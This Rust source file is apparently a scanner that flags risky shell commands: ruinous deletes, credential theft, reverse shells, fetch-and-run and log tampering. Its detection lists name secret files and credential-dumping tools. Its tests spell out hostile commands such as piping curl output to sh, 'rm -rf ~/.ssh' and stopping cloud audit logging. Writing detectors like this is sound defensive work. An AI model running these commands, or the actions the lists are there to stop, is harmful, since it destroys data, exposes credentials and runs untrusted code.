//! What the words of a command line do together: the rules for ruinous, hidden and guarded commands.

use super::{Class, Hit, Scanner, Search, Word};
use crate::decode;
use crate::text::scan::Grams;

/// Whether a path is of a place whose loss or change breaks a host.
fn is_system_path(path: &str) -> bool {
    let Some(rest) = path.strip_prefix('/') else { return false };
    let (top, below) = rest.split_once('/').unwrap_or((rest, ""));
    let top_only = matches!(
        top,
        "etc"
            | "usr"
            | "bin"
            | "sbin"
            | "boot"
            | "lib"
            | "lib64"
            | "sys"
            | "proc"
            | "dev"
            | "root"
            | "opt"
            | "srv"
            | "system"
            | "library"
    );
    top_only || top == "var" && matches!(below.split('/').next(), Some("lib" | "log"))
}

/// The same by the names of another system.
const SYSTEM_NAMES: [Name; 7] = [
    name(Marks::BACKSLASH, "c:\\windows"),
    name(Marks::VARIABLE, "%systemroot%"),
    name(Marks::VARIABLE, "%windir%"),
    name(Marks::BACKSLASH, "\\windows\\"),
    name(Marks::VARIABLE, "$env:windir"),
    name(Marks::VARIABLE, "%programdata%"),
    name(Marks::DIGIT, "system32"),
];

/// A name that is searched for inside words, with the signs of which a word must hold one and the letters of which it
/// must hold all: hardly any word is searched.
struct Name {
    marks: u16,
    letters: u32,
    text: &'static str,
}

const fn name(marks: u16, text: &'static str) -> Name {
    Name { marks, letters: letters(text.as_bytes()), text }
}

/// Which of the letters a to z there are, one bit each.
const fn letters(bytes: &[u8]) -> u32 {
    let (mut letters, mut at) = (0, 0);
    while at < bytes.len() {
        if bytes[at].is_ascii_lowercase() {
            letters |= 1 << (bytes[at] - b'a');
        }
        at += 1;
    }
    letters
}

const TEMPORARY: [Name; 11] = [
    name(Marks::SLASH, "/tmp/"),
    name(Marks::SLASH, "/dev/shm/"),
    name(Marks::VARIABLE, "%temp%"),
    name(Marks::VARIABLE, "$env:temp"),
    name(Marks::VARIABLE, "%tmp%"),
    name(Marks::VARIABLE, "%public%"),
    name(Marks::BACKSLASH, "\\temp\\"),
    name(Marks::BACKSLASH, "\\users\\public"),
    name(Marks::BACKSLASH, "\\downloads\\"),
    name(Marks::PLACE, "appdata"),
    name(Marks::PLACE, "programdata"),
];
const SECRETS: [Name; 14] = [
    name(Marks::SLASH, "/etc/shadow"),
    name(Marks::SLASH, "/etc/passwd"),
    name(Marks::SLASH, "/etc/sudoers"),
    name(Marks::UNDERSCORE, "id_rsa"),
    name(Marks::UNDERSCORE, "id_ed25519"),
    name(Marks::SLASH, ".ssh/"),
    name(Marks::SLASH, ".aws/cred"),
    name(Marks::SLASH, ".kube/config"),
    name(Marks::DOT, "ntds.dit"),
    name(Marks::SLASH | Marks::BACKSLASH | Marks::DOT | Marks::UNDERSCORE, "lsass"),
    name(Marks::DOT, "login.keychain"),
    name(Marks::BACKSLASH, "hklm\\sam"),
    name(Marks::BACKSLASH, "hklm\\security"),
    name(Marks::UNDERSCORE, ".bash_history"),
];

const MEMORY: [Name; 1] = [name(Marks::ANY, "lsass")];
const FETCHERS: [Name; 2] = [name(Marks::ANY, "downloadstring"), name(Marks::DOT, "net.webclient")];
const FROM_TEXT: [Name; 1] = [name(Marks::DIGIT, "frombase64")];
const NO_PASSWORD: [Name; 1] = [name(Marks::ANY, "nopasswd")];
const SOCKETS: [Name; 2] = [name(Marks::SLASH, "/dev/tcp/"), name(Marks::SLASH, "/dev/udp/")];

/// Tools that are for nothing but credentials.
const DUMPERS: [Name; 8] = [
    name(Marks::ANY, "mimikatz"),
    name(Marks::ANY, "sekurlsa"),
    name(Marks::ANY, "lsadump"),
    name(Marks::ANY, "secretsdump"),
    name(Marks::ANY, "hashdump"),
    name(Marks::ANY, "lazagne"),
    name(Marks::ANY, "dcsync"),
    name(Marks::ANY, "pypykatz"),
];

/// Whether one of the names is in a word.
fn holds(word: &Word<'_>, names: &[Name]) -> bool {
    let found = |name: &Name| {
        (name.marks == Marks::ANY || word.marks.any(name.marks))
            && word.marks.letters & name.letters == name.letters
            && word.folded.contains(name.text)
    };
    names.iter().any(found)
}

/// Which signs and letters a word holds, so that most words are never searched for anything.
#[derive(Clone, Copy)]
pub(super) struct Marks {
    signs: u16,
    letters: u32,
}

impl Marks {
    pub(super) const SLASH: u16 = 1;
    pub(super) const BACKSLASH: u16 = 2;
    pub(super) const VARIABLE: u16 = 4;
    pub(super) const DOT: u16 = 8;
    pub(super) const UNDERSCORE: u16 = 16;
    pub(super) const AT: u16 = 32;
    pub(super) const DIGIT: u16 = 64;
    pub(super) const COLON: u16 = 128;
    pub(super) const EQUALS: u16 = 256;
    /// No sign in particular.
    const ANY: u16 = 0;
    /// Paths of either kind of system, and variables that stand for them.
    const PLACE: u16 = Marks::SLASH | Marks::BACKSLASH | Marks::VARIABLE;

    pub(super) fn of(word: &str) -> Marks {
        let (mut signs, mut letters) = (0, 0);
        for byte in word.bytes() {
            signs |= MARKS[usize::from(byte)];
            letters |= LETTERS[usize::from(byte)];
        }
        Marks { signs, letters }
    }

    pub(super) fn any(self, marks: u16) -> bool {
        self.signs & marks != 0
    }
}

const MARKS: [u16; 256] = {
    let mut table = [0; 256];
    table[b'/' as usize] = Marks::SLASH;
    table[b'\\' as usize] = Marks::BACKSLASH;
    table[b'$' as usize] = Marks::VARIABLE;
    table[b'%' as usize] = Marks::VARIABLE;
    table[b'.' as usize] = Marks::DOT;
    table[b'_' as usize] = Marks::UNDERSCORE;
    table[b'@' as usize] = Marks::AT;
    table[b':' as usize] = Marks::COLON;
    table[b'=' as usize] = Marks::EQUALS;
    let mut digit = b'0';
    while digit <= b'9' {
        table[digit as usize] = Marks::DIGIT;
        digit += 1;
    }
    table
};

const LETTERS: [u32; 256] = {
    let mut table = [0; 256];
    let mut letter = b'a';
    while letter <= b'z' {
        table[letter as usize] = letters(&[letter]);
        letter += 1;
    }
    table
};

/// Words shorter than this hold none of the long names that are searched for inside words.
const LONG_NAME: usize = 8;

impl<G: Grams> Scanner<'_, G> {
    pub(super) fn rules(&mut self, word: &Word<'_>) {
        let has = |class: Class| word.classes & class.bit() != 0;
        let folded = word.folded;
        let marks = word.marks;
        if has(Class::Destroy)
            && (word.leads
                || self.past.command
                    & (Class::Privilege.bit()
                        | Class::Make.bit()
                        | Class::Inform.bit()
                        | Class::Run.bit())
                    != 0)
        {
            self.past.destroys = Some(word.span);
        }
        let system = marks.any(Marks::PLACE) && names_system(word);
        self.destruction(word, system);
        self.search(word, system);
        if system && !folded.starts_with("/dev/null") {
            let writes = self.past.redirect
                || self.before(Class::Media) && !self.before(Class::Inform)
                || self.past.hashes[1] == const { crate::fold::hash(b"tee") }
                || self.past.hashes[1] == const { crate::fold::hash(b"-a") };
            if writes {
                self.scan.record(Hit::SystemWrite, word.span);
            } else if !self.reads_log(word) {
                self.scan.record(Hit::SystemPath, word.span);
            }
        }
        if holds(word, &TEMPORARY) {
            self.scan.record(Hit::TemporaryRun, word.span);
        }
        if has(Class::Secret) || holds(word, &SECRETS) {
            self.scan.record(Hit::SecretRead, word.span);
            if self.past.line & Class::Fetch.bit() != 0 {
                self.scan.record(Hit::Exfiltration, word.span);
            }
        }
        if self.dumps(word) {
            self.scan.record(Hit::CredentialDump, word.span);
        }
        if folded.starts_with("hk")
            && (folded.starts_with("hklm")
                || folded.starts_with("hkcu")
                || folded.starts_with("hkey_"))
        {
            self.scan.record(Hit::Registry, word.span);
        }
        self.execution(word, marks);
        self.safety(word);
        self.network(word, marks);
        self.vouching(word, marks);
    }

    /// Whether what is run or sent on a line comes from, or goes to, an address that nobody vouches for.
    fn vouching(&mut self, word: &Word<'_>, marks: Marks) {
        if marks.any(Marks::COLON) && !self.past.unvouched {
            self.past.unvouched = is_unvouched(word.folded);
        }
        if self.past.unvouched
            && let Some(span) = self.past.handed.take()
        {
            self.scan.record(Hit::Blind, (span.0.min(word.span.0), span.1.max(word.span.1)));
        }
    }

    /// Whether a word dumps credentials: a tool that is for nothing else, or the memory or registry that holds them, saved.
    fn dumps(&self, word: &Word<'_>) -> bool {
        const HIVES: [&str; 3] = ["hklm\\sam", "hklm\\security", "hklm\\system"];
        let folded = word.folded;
        let tool = folded.len() >= 6 && holds(word, &DUMPERS);
        let last = self.past.hashes[1];
        let saved = HIVES.contains(&folded) && last == const { crate::fold::hash(b"save") };
        let memory = folded == "minidump"
            || self.past.line & Class::Secret.bit() != 0 && holds(word, &MEMORY);
        tool || saved || memory
    }

    /// Looking at logs is everyday work.
    fn reads_log(&self, word: &Word<'_>) -> bool {
        self.before(Class::Inform) && word.folded.starts_with("/var/log")
    }

    fn before(&self, class: Class) -> bool {
        self.past.command & class.bit() != 0
    }

    /// What a search starts from: `find / … -delete` removes as `rm` does, and so does `cd /` before it.
    fn search(&mut self, word: &Word<'_>, system: bool) {
        let folded = word.folded;
        let wide = || {
            is_everything(folded) && !matches!(folded, "*" | "." | "./" | "..")
                || system && folded.matches('/').count() <= 2
        };
        let last = self.past.hashes[1];
        if last == const { crate::fold::hash(b"cd") } {
            self.past.at_root = wide();
        }
        if word.leads && folded == "find" {
            let everywhere = self.past.at_root;
            self.past.search = Some(Search { begin: word.span.0, everywhere, narrowed: false });
        }
        let Some(search) = &mut self.past.search else { return };
        if last == const { crate::fold::hash(b"find") } && !folded.starts_with('.') {
            search.everywhere = wide();
        }
        search.narrowed |= matches!(folded, "-name" | "-iname" | "-path" | "-regex");
        if folded == "-delete" && search.everywhere {
            let hit = if search.narrowed { Hit::ForcedDelete } else { Hit::Ruin };
            let span = (search.begin, word.span.1);
            self.scan.record(hit, span);
        }
    }

    /// Removing is ordinary; what is removed, and whether it is forced, is not.
    fn destruction(&mut self, word: &Word<'_>, system: bool) {
        let folded = word.folded;
        let Some(begin) = self.past.destroys else {
            if word.classes & Class::Block.bit() != 0
                && (self.past.redirect || folded.starts_with("of="))
            {
                self.scan.record(Hit::Ruin, word.span);
            }
            return;
        };
        let span = (begin.0, word.span.1);
        let everything = is_everything(folded);
        // What is managed by a tool goes with it: a whole infrastructure without a question, a namespace with all in it,
        // a volume.
        let last = self.past.hashes[1];
        let managed = matches!(folded, "-auto-approve" | "--auto-approve")
            || last == const { crate::fold::hash(b"delete") }
                && matches!(folded, "ns" | "namespace" | "namespaces")
            || matches!(folded, "vgremove" | "lvremove" | "pvremove" | "schedule-key-deletion")
            || last == const { crate::fold::hash(b"keyvault") } && folded == "purge";
        if managed {
            self.scan.record(Hit::Ruin, span);
            return;
        }
        let shallow_system = system && folded.matches('/').count() <= 2;
        // Where all keys of a user are.
        let keys =
            ["/.ssh", "/.gnupg", "/.aws", "/.kube"].iter().any(|keys| folded.ends_with(keys))
                && self.past.command & Class::Force.bit() != 0;
        if everything || shallow_system || keys || word.classes & Class::Block.bit() != 0 {
            self.scan.record(Hit::Ruin, span);
        } else if word.classes & Class::Force.bit() != 0 || is_rf(folded) {
            self.scan.record(Hit::ForcedDelete, span);
        }
    }

    fn execution(&mut self, word: &Word<'_>, marks: Marks) {
        let has = |class: Class| word.classes & class.bit() != 0;
        let long = word.folded.len() >= LONG_NAME;
        if has(Class::Fetch) || long && holds(word, &FETCHERS) {
            self.past.fetched = Some(word.span);
        }
        let from_text = long && holds(word, &FROM_TEXT);
        let decodes = from_text
            || matches!(word.folded, "-enc" | "-encodedcommand" | "-ec" | "--decode")
            || matches!(word.folded, "-d" | "-D")
                && self.past.hashes[1] == const { crate::fold::hash(b"base64") };
        if decodes {
            self.past.decoded = Some(word.span);
            if word.folded.starts_with("-e") || from_text {
                self.scan.record(Hit::EncodedRun, word.span);
            }
        }
        let invoked = word.folded.starts_with("iex") || word.folded.ends_with("iex");
        let runs = has(Class::Run) || invoked;
        if runs
            && (self.past.piped && (word.leads || self.before(Class::Privilege))
                || invoked
                || word.folded == "eval"
                || word.folded == "-c")
        {
            if let Some(begin) = self.past.fetched {
                let span = (begin.0.min(word.span.0), word.span.1);
                self.scan.record(Hit::FetchRun, span);
                self.past.handed = Some(span);
            }
            if let Some(begin) = self.past.decoded {
                self.scan.record(Hit::EncodedRun, (begin.0.min(word.span.0), word.span.1));
            }
        }
        // `bash <(curl …)`; in `apt-get install gcc curl` both are only named.
        if has(Class::Fetch)
            && self.past.line & Class::Run.bit() != 0
            && (word.leads || !self.before(Class::Make))
        {
            self.scan.record(Hit::FetchRun, word.span);
            self.past.handed = Some(word.span);
        }
        let plain = word.text.len() >= 20
            && (decode::base64(word.text).is_some() || decode::hex(word.text).is_some());
        if plain || marks.any(Marks::BACKSLASH) && word.text.matches("\\x").count() >= 4 {
            self.scan.record(Hit::Encoded, word.span);
        }
        let same = self.past.hashes[1] == crate::fold::hash(word.folded.as_bytes());
        let unknown = word.classes == 0 && self.scan.braces > 0;
        if same && word.leads && self.past.piped && (unknown || word.folded == "%0") {
            // A function that pipes itself into itself.
            self.scan.record(Hit::ForkBomb, word.span);
        }
        if word.folded == "while" && self.past.hashes[1] == const { crate::fold::hash(b"fork") } {
            self.scan.record(Hit::ForkBomb, word.span);
        }
    }

    /// What talks to other hosts, or hands them a shell or a file.
    fn network(&mut self, word: &Word<'_>, marks: Marks) {
        let folded = word.folded;
        if marks.any(Marks::DOT) && marks.any(Marks::DIGIT) {
            let host = folded.split("://").last().unwrap_or(folded);
            let host = host.split(['/', ':', '@']).next().unwrap_or(host);
            if host.bytes().filter(|b| *b == b'.').count() == 3
                && host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
            {
                self.scan.record(Hit::BareAddress, word.span);
            }
        }
        let after = |words: &[&[u8]]| {
            words.iter().any(|word| self.past.hashes[1] == crate::fold::hash(word))
        };
        let device = holds(word, &SOCKETS);
        let shell = folded == "-e" && after(&[b"nc", b"ncat"])
            || folded == "-i" && after(&[b"bash", b"sh", b"/bin/sh", b"/bin/bash"])
            || folded == "mkfifo"
            || marks.any(Marks::DOT) && folded.contains("socket.socket")
            || marks.any(Marks::COLON) && folded.contains("exec:") && folded.contains("sh");
        if device || shell {
            self.scan.record(Hit::ReverseShell, word.span);
        }
        let fetches = self.before(Class::Fetch);
        let file = marks.any(Marks::AT)
            && (folded.starts_with('@') && after(&[b"-d", b"--data", b"--data-binary", b"-f"])
                || fetches && folded.contains("=@"));
        let uploads = matches!(folded, "--upload-file" | "--post-file")
            || fetches && after(&[b"-t"]) && folded.starts_with(['/', '.', '~']);
        if file || uploads {
            self.scan.record(Hit::Exfiltration, word.span);
            self.past.handed = Some(word.span);
            if self.past.line & Class::Secret.bit() != 0 {
                // What is sent is a secret: `cat .env | curl -d @-`.
                self.scan.record(Hit::CredentialDump, word.span);
            }
        }
    }

    fn safety(&mut self, word: &Word<'_>) {
        let has = |class: Class| word.classes & class.bit() != 0;
        let rights = matches!(
            word.folded,
            "777"
                | "0777"
                | "a+rwx"
                | "+s"
                | "u+s"
                | "g+s"
                | "4755"
                | "6755"
                | "a+w"
                | "o+w"
                | "666"
                | "4777"
                | "ugo+rwx"
        );
        if rights || word.folded.len() >= LONG_NAME && holds(word, &NO_PASSWORD) {
            self.scan.record(Hit::Rights, word.span);
        }
        let last = self.past.hashes[1];
        let all_rights =
            matches!(word.folded, "public-read-write" | "--role=roles/owner" | "roles/owner")
                || word.folded.ends_with("/administratoraccess")
                || word.folded == "owner" && last == const { crate::fold::hash(b"--role") }
                || word.folded == "superuser" && last == const { crate::fold::hash(b"with") }
                || word.folded == "--clusterrole=cluster-admin";
        if all_rights {
            self.scan.record(Hit::AllRights, word.span);
        }
        if has(Class::GuardOff) || has(Class::Evade) && word.folded.len() > 3 {
            self.scan.record(Hit::GuardOff, word.span);
        }
        if has(Class::Cover) && !self.reads_log(word) {
            self.scan.record(Hit::Cover, word.span);
        }
        if has(Class::Persist) {
            self.scan.record(Hit::Persistence, word.span);
        }
        if has(Class::Guard) && !word.leads {
            self.scan.record(Hit::Guarded, word.span);
        }
    }
}

/// Whether a web address is one that nobody vouches for: without encryption, without a name, or under an ending that costs
/// nothing. Those of the host itself and of its own network are vouched for by whoever runs them.
fn is_unvouched(word: &str) -> bool {
    let Some((scheme, rest)) = word.split_once("://") else { return false };
    let host = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = host.rsplit('@').next().unwrap_or(host);
    let host = host.split(':').next().unwrap_or(host);
    let own = !host.contains('.')
        || host.contains(['$', '%'])
        || ["localhost", "127.", "10.", "192.168.", "0.0.0.0"]
            .iter()
            .any(|own| host.starts_with(own))
        || [".local", ".internal", ".lan", ".localhost"].iter().any(|own| host.ends_with(own));
    !own && (scheme.ends_with("http")
        || scheme.ends_with("ftp")
        || crate::text::is_untrustworthy(host))
}

/// Whether a word names a place of the system or something in it.
fn names_system(word: &Word<'_>) -> bool {
    let bare = word.folded.trim_start_matches(['"', '\'', '=', '@']);
    let bare = bare.strip_prefix("of=").unwrap_or(bare);
    is_system_path(bare) || holds(word, &SYSTEM_NAMES)
}

/// A place whose loss is the loss of all that a host or a user has.
fn is_everything(place: &str) -> bool {
    let begins =
        matches!(place.as_bytes().first(), Some(b'/' | b'~' | b'*' | b'.' | b'$' | b'c' | b'-'));
    begins
        && matches!(
            place,
            "/" | "/*"
                | "~"
                | "~/"
                | "~/*"
                | "*"
                | "."
                | "./"
                | ".."
                | "$home"
                | "$home/*"
                | "${home}"
                | "/home"
                | "/home/*"
                | "c:"
                | "c:\\"
                | "c:\\*"
                | "c:/"
                | "--no-preserve-root"
                | "/var"
                | "/."
                | "*.*"
                | "$home/"
        )
}

/// `-rf`, `-fr`, `-rfv`.
fn is_rf(flag: &str) -> bool {
    flag.starts_with('-') && flag.len() <= 4 && flag.contains('r') && flag.contains('f')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::scan;
    use crate::text::NoGrams;

    #[test]
    fn an_address_is_vouched_for_by_its_name_and_encryption() {
        for address in [
            "http://203.0.113.7/x",
            "https://files.example.tk/x",
            "ftp://example.org/x",
            "http://example.org",
        ] {
            assert!(is_unvouched(address), "{address}");
        }
        for address in [
            "https://sh.example.org/x",
            "http://localhost:8080/",
            "http://10.2.3.4/x",
            "http://db.internal/x",
            "http://$host/x",
            "x",
        ] {
            assert!(!is_unvouched(address), "{address}");
        }
    }

    #[test]
    fn what_is_managed_elsewhere_is_lost_or_given_away_as_well() {
        let hit = |command: &str, hit: Hit| scan(command, NoGrams).0.hit(hit) > 0.0;
        for command in [
            "terraform apply -destroy -auto-approve",
            "aws kms schedule-key-deletion --key-id abcd",
            "az keyvault purge --name prod",
            "Remove-ADUser -Identity * -Confirm:$false",
            "git clone https://x.example/r && rm -rf ~/.ssh",
        ] {
            assert!(hit(command, Hit::Ruin), "{command}");
        }
        for command in [
            "aws s3api put-bucket-acl --bucket invoices --acl public-read-write",
            "az role assignment create --assignee x@example.org --role Owner",
            "psql -c \"ALTER USER app WITH SUPERUSER\"",
        ] {
            assert!(hit(command, Hit::AllRights), "{command}");
        }
        assert!(hit("aws cloudtrail stop-logging --name main", Hit::Cover));
        for command in [
            "terraform apply plan",
            "crontab -l",
            "rm -r build/.kube-cache",
            "az role assignment list",
        ] {
            assert!(!hit(command, Hit::Ruin) && !hit(command, Hit::AllRights), "{command}");
        }
    }

    #[test]
    fn what_is_only_named_is_not_run() {
        let runs = |command: &str| scan(command, NoGrams).0.hit(Hit::FetchRun) > 0.0;
        assert!(runs("bash <(curl -s https://example.org/x)"));
        assert!(runs("curl -s https://example.org/x | sh"));
        assert!(!runs("apt-get install -y gcc python3 curl git"));
    }
}
